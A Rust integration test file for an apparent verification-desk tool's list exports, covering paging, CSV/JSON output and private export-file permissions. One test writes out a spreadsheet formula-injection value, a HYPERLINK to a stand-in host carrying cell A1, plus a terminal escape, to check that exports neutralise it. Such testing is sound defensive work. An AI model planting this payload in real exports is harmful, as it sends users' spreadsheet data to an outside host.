//! Whole lists, and rows as files have them.

use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;

use chrono::Utc;
use verifydesk::domain::audit::AuditFilter;
use verifydesk::domain::filter::{Clock, Filter, Place, line};
use verifydesk::domain::page::Position;
use verifydesk::domain::verification::Status;
use verifydesk::export::{Format, Listed, file};

use crate::support::Program;
use crate::support::world::World;

/// 9,000 users, ten at a time; of every third the address has another word.
const MANY: &str = "with u as (
        insert into users (email, name, locale)
        select case n % 3 when 0 then 'few' else 'many' end || n || '@example.com', 'Mina ' || n,
            case n % 7 when 0 then 'en' else 'ko' end
        from generate_series(1, 9000) n
        returning id
    )
    insert into verifications (user_id, key_nonce, created_at, expires_at, verified_at, revoked_at)
    select id, decode(repeat('00', 16), 'hex'), at, at + case id % 2 when 0 then interval '9 days' else interval '1 hour' end,
        case when id % 5 = 2 then at end, case when id % 5 = 3 then at end
    from (select id, now() - interval '2 days' - id / 10 * interval '1 minute' as at from u) as placed";

fn filter(text: &str, status: Option<Status>) -> Filter {
    let clock = Clock::utc(chrono::Utc::now());
    Filter { status, ..line::parse(text, Place::Verifications, clock).unwrap() }
}

#[tokio::test]
async fn a_whole_list_has_each_row_once_in_its_order() {
    let world = World::new().await;
    world.execute(MANY).await;
    let store = world.store();
    for status in [None, Some(Status::Pending), Some(Status::Expired), Some(Status::Verified), Some(Status::Revoked)] {
        // By the status alone, walked along, looked up, no one, and walked along by a term.
        for text in ["", "many", "few12", "nobody", "%", "locale:en", "mina locale:en"] {
            let filter = filter(text, status);
            let expected = store.list(&filter, Position::Newest, 50_000).await.unwrap();
            for part in [37, 1_000, 50_000] {
                let whole = store.whole_list(&filter, Position::Newest).await.unwrap();
                let (mut whole, mut rows) = (whole.in_parts_of(part), Vec::new());
                while let Some(some) = whole.next().await.unwrap() {
                    assert!(some.len() <= usize::try_from(part).unwrap());
                    rows.extend(some.into_iter().map(|row| row.verification.id));
                }
                let ids: Vec<_> = expected.rows.iter().map(|row| row.verification.id).collect();
                assert_eq!(rows, ids, "{text:?} {status:?} in parts of {part}");
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn lists_are_printed_as_csv_to_their_end() {
    let world = World::new().await;
    let hostile = "=HYPERLINK(\"http://x.example/?\"&A1),\u{1b}[2J";
    let id = world.sign_up("+mina@example.com").await;
    let renamed = sqlx::query("update users set name = $1").bind(hostile).execute(world.pool()).await.unwrap();
    assert_eq!(renamed.rows_affected(), 1);
    world
        .execute(
            "with u as (
                insert into users (email) select 'u' || n || '@example.com' from generate_series(1, 1200) n returning id
            )
            insert into verifications (user_id, key_nonce, expires_at, created_at)
            select id, decode(repeat('00', 16), 'hex'), now() + interval '1 day', now() - interval '1 hour' from u",
        )
        .await;
    let office = Program::new(&world.db.url);
    let list = office.run(&["list", "--all", "--csv"]);
    assert_eq!(list.code, 0, "{}", list.err);
    let lines: Vec<&str> = list.out.split_terminator("\r\n").collect();
    assert_eq!(lines.len(), 1_202);
    assert!(lines[0].starts_with("id,user_id,email,name,locale,status,created_at,expires_at,"), "{}", lines[0]);
    let first = format!("{id},1,'+mina@example.com,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1),␛[2J\",");
    assert!(lines[1].starts_with(&first), "{}", lines[1]);
    assert_eq!(office.run(&["list", "--all", "--json"]).json().len(), 1_201);
    assert_eq!(office.run(&["list", "--all"]).out.lines().count(), 1_202);

    // A part says that it is one, and how to go on.
    let part = office.run(&["list", "--limit", "2", "--csv"]);
    let after = part.err.trim().strip_prefix("more: --after ").unwrap_or_else(|| panic!("{}", part.err));
    assert_eq!(part.out.lines().count(), 3);
    assert_eq!(office.run(&["list", "--all", "--csv", "--after", after]).out.lines().count(), 1_200);

    let sends = office.run(&["sends", "--all", "--csv"]);
    let lines: Vec<&str> = sends.out.split_terminator("\r\n").collect();
    assert!(lines.len() == 2 && lines[1].contains(",'+mina@example.com,"), "{}", sends.out);
    assert_eq!(office.run(&["sends", "--csv", "--search", "nobody"]).out.lines().count(), 1, "its headings");
    assert_eq!(office.run(&["list", "--csv", "--search", "%%%a%%%"]).out.lines().count(), 1);
    let audit = office.run(&["audit", "--csv"]);
    assert!(audit.out.starts_with("id,at,actor,origin,action,") && audit.out.lines().count() == 2, "{}", audit.out);
    assert_eq!(office.run(&["list", "--csv", "--json"]).code, 2);
    assert_eq!(office.run(&["list", "--all", "--limit", "3"]).code, 2);
}

#[tokio::test]
async fn all_mails_are_read_once() {
    let world = World::new().await;
    world.execute(MANY).await;
    world
        .execute(
            "insert into sends (id, verification_id, user_id, recipient, locale, state, reason)
            select gen_random_uuid(), v.id, u.id, u.email, 'en', case when v.id % 2 = 0 then 'failed' else 'delivered' end,
                case when v.id % 2 = 0 then 'refused' end
            from verifications v join users u on u.id = v.user_id",
        )
        .await;
    let store = world.store();
    for (text, count) in [("", 9_000), ("mail:failed", 4_500), ("many", 6_000), ("few12", 39), ("nobody", 0)] {
        let clock = Clock::utc(chrono::Utc::now());
        let filter = line::parse(text, Place::Mails, clock).unwrap();
        let mut whole = store.whole_sends(&filter, Position::Newest).await.unwrap();
        let mut ids = Vec::new();
        while let Some(rows) = whole.next().await.unwrap() {
            ids.extend(rows.into_iter().map(|send| send.id.0));
        }
        assert!(ids.is_sorted_by(|a, b| a > b), "{text}");
        assert_eq!(ids.len(), count, "{text}");
    }
}

fn names(directory: &Path) -> Vec<String> {
    let names = std::fs::read_dir(directory).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap());
    names.collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_is_whole_private_and_takes_no_other_s_place() {
    let world = World::new().await;
    world.execute(MANY).await;
    world.sign_up("mina@example.com").await;
    let (store, dir) = (world.store(), tempfile::tempdir().unwrap());
    let directory = dir.path().join("data/verifydesk/exports");
    let now = Utc::now();
    let office = Program::new(&world.db.url);
    let expired = Listed::Verifications(filter("many", Some(Status::Expired)));
    for (listed, format, name, command) in [
        (
            &expired,
            Format::Csv,
            "verifications-expired",
            &["list", "--status", "expired", "--search", "many", "--csv"][..],
        ),
        (
            &Listed::Verifications(filter("locale:en", None)),
            Format::Csv,
            "verifications",
            &["list", "--search", "locale:en", "--csv"],
        ),
        (&Listed::Mails(Filter::default()), Format::Csv, "mails", &["sends", "--csv"]),
        (&Listed::Audit(AuditFilter::default()), Format::JsonLines, "audit", &["audit", "--json"]),
    ] {
        let mut told = Vec::new();
        let first = file::write(store, listed, format, &directory, now, |rows| told.push(rows)).await.unwrap();
        let text = std::fs::read_to_string(&first.path).unwrap();
        assert_eq!(text, office.run(&[command, &["--all"]].concat()).out, "{name}");
        let heads = usize::from(format == Format::Csv);
        assert_eq!((text.lines().count(), told.last().copied()), (first.rows + heads, Some(first.rows)), "{name}");
        let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
        assert_eq!((mode(&first.path), mode(&directory)), (0o600, 0o700));
        let second = file::write(store, listed, format, &directory, now, |_| {}).await.unwrap();
        let end = if format == Format::Csv { "csv" } else { "jsonl" };
        let at = now.format("%Y-%m-%d-%H%M%S");
        assert_eq!(first.path, directory.join(format!("{name}-{at}.{end}")));
        assert_eq!(second.path, directory.join(format!("{name}-{at}-2.{end}")));
        assert_eq!(std::fs::read_to_string(&first.path).unwrap(), text);
    }
    assert_eq!(names(&directory).len(), 8);

    // Given up, it leaves nothing.
    let all = Listed::Verifications(Filter::default());
    let (told, mut hears) = tokio::sync::mpsc::unbounded_channel();
    let write = file::write(store, &all, Format::Csv, &directory, now, |rows| told.send(rows).unwrap());
    tokio::select! {
        biased;
        rows = hears.recv() => assert!(rows.is_some()),
        written = write => panic!("{written:?}"),
    }
    assert_eq!(names(&directory).len(), 8);

    std::fs::write(dir.path().join("file"), "").unwrap();
    let failed = file::write(store, &all, Format::Csv, &dir.path().join("file/x"), now, |_| {}).await.unwrap_err();
    assert!(failed.to_string().starts_with("the list cannot be written in /"), "{failed}");
}
